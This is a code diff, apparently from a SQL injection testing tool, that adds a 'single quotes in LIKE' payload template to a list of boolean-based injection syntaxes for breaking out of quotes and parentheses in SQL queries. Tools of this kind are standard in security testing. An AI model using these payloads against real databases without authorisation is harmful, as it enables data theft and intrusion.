@@ -13,6 +13,7 @@ const syntaxes: readonly Syntax[] = [
   { name: 'number', payload: (value, condition) => `${value} AND ${condition}` },
   { name: 'single quotes', payload: (value, condition) => `${value}' AND ${condition} AND '1'='1` },
   { name: 'double quotes', payload: (value, condition) => `${value}" AND ${condition} AND "1"="1` },
+  { name: 'single quotes in LIKE', payload: (value, condition) => `${value}%' AND ${condition} AND '%'='` },
   { name: 'number in parentheses', payload: (value, condition) => `${value}) AND ${condition} AND (1=1` },
   { name: 'single quotes in parentheses', payload: (value, condition) => `${value}') AND ${condition} AND ('1'='1` },
 ];
